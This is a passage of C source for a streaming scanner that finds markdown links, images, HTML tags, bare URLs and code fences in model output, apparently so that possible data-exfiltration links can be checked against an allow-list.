  for (size_t ls = body; ls < lim;) {
    size_t k = ls, sp = 0;
    while (k < lim && t[k] == ' ' && sp < 4) {
      k++;
      sp++;
    }
    size_t m = sp < 4 && k < lim && t[k] == t[p] ? fence_len(t, k, lim) : 0;
    size_t e = k + m;
    while (m && e < lim && (t[e] == ' ' || t[e] == '\t'))
      e++;
    if (m >= n && (e == lim || t[e] == '\n')) {
      if (e == lim && !c->final)
        return NEED_MORE; /* "```" may still grow into "````x" */
      body_end = ls;
      end = e;
      break;
    }
    const char *nl = memchr(t + ls, '\n', lim - ls);
    if (!nl)
      break;
    ls = (size_t)(nl - t) + 1;
  }
  if (end == lim && body_end == lim && !c->final)
    return NEED_MORE;
  if (c->unsplit && p < c->hold && c->hold < end && p < *c->unsplit)
    *c->unsplit = p;
  if (c->cb) {
    ag_exfil_item it = {AG_EXFIL_CODE,
                        p,
                        end,
                        0,
                        0,
                        0,
                        is,
                        info_end,
                        body < body_end ? body : body_end,
                        body_end};
    c->cb(c->ud, &it);
  }
  return end > p ? end : p + 1;
}

/* Bytes where a construct can begin: 1 for '!', '[' and '<', 2 for the
 * first letter of "http", "ftp" and "www". Most text is skipped at the
 * cost of one table lookup per byte. */
static const unsigned char starts[256] = {
    ['!'] = 1, ['['] = 1, ['<'] = 1, ['h'] = 2, ['H'] = 2, ['f'] = 2,
    ['F'] = 2, ['w'] = 2, ['W'] = 2, ['`'] = 3, ['~'] = 3};

/* Could a bare URL start at t[i] (a word start): "ht", "ft", "ww", or
 * the letter at the end of the text? */
static int url_start(const char *t, size_t i, size_t to) {
  if (i > 0 && alnum((unsigned char)t[i - 1]))
    return 0;
  if (i + 1 >= to)
    return 1;
  int a = lower((unsigned char)t[i]), b = lower((unsigned char)t[i + 1]);
  return (a == 'w' && b == 'w') || (a != 'w' && b == 't');
}

static size_t scan_range(const ctx *c, size_t from, size_t to, int depth) {
  const char *t = c->t;
  size_t i = from;
  while (i < to) {
    while (i < to && !starts[(unsigned char)t[i]])
      i++;
    if (i >= to)
      break;
    unsigned char ch = (unsigned char)t[i];
    size_t r = NONE, ls;
    if (ch == '!') {
      if (i + 1 >= to)
        r = out_of_text(c, to);
      else if (t[i + 1] == '[')
        r = inline_md(c, i, to, 1, depth);
    } else if (ch == '[') {
      if (line_start(t, i, &ls))
        r = definition(c, ls, i, to);
      if (r == NONE)
        r = inline_md(c, i, to, 0, depth);
    } else if (ch == '<') {
      r = html_tag(c, i, to);
    } else if (starts[ch] == 2 && url_start(t, i, to)) {
      r = bare_url(c, i, to);
    } else if (starts[ch] == 3 && c->allow && c->allow->code_blocks &&
               depth == 0 && line_start(t, i, &ls)) {
      r = code_block(c, i, to);
    }
    if (r == NEED_MORE)
      return i;
    i = r == NONE ? i + 1 : r;
  }
  return to;
}

/* Can text[from, len) hold a construct at all? Every one needs a '[', a
 * '<', "://" or "www.": memchr finds those far faster than the reader
 * walks prose, and most model output has none. The last bytes are always
 * read (a "ht" or "!" at the end of a stream may grow into one). */
static int maybe_constructs(const char *t, size_t from, size_t len, int code) {
  const char *p = t + from, *end = t + len;
  if (memchr(p, '[', (size_t)(end - p)) || memchr(p, '<', (size_t)(end - p)))
    return 1;
  if (code &&
      (memchr(p, '`', (size_t)(end - p)) || memchr(p, '~', (size_t)(end - p))))
    return 1;
  for (const char *q = p; (q = memchr(q, ':', (size_t)(end - q))); q++)
    if (end - q >= 3 && q[1] == '/' && q[2] == '/')
      return 1;
  for (const char *q = p; (q = memchr(q, '.', (size_t)(end - q))); q++)
    if (q - t >= 3 && lower((unsigned char)q[-1]) == 'w' &&
        lower((unsigned char)q[-2]) == 'w' &&
        lower((unsigned char)q[-3]) == 'w')
      return 1;
  return 0;
}

#define TAIL_READ 8 /* longer than "https:/" */

size_t ag_exfil_scan(const char *text, size_t len, size_t from,
                     const ag_exfil_allow *allow, int final, ag_exfil_cb cb,
                     void *ud) {
  if (!text || from > len)
    return len;
  ctx c = {text, len, final, allow, cb, ud, allow && allow->sanitize, 0, NULL};
  if (!maybe_constructs(text, from, len, allow && allow->code_blocks)) {
    if (final || len - from <= TAIL_READ)
      return final ? len : scan_range(&c, from, len, 0);
    return scan_range(&c, len - TAIL_READ, len, 0);
  }
  return scan_range(&c, from, len, 0);
}

size_t ag_exfil_unsplit(const char *text, size_t len, size_t from,
                        const ag_exfil_allow *allow, size_t hold) {
  if (!text || from >= hold || hold >= len)
    return hold;
  size_t best = hold;
  ctx c = {text, len,  0, allow, NULL, NULL, allow && allow->sanitize,
           hold, &best};
  if (maybe_constructs(text, from, len, allow && allow->code_blocks))
    scan_range(&c, from, len, 0);
  return best;
}
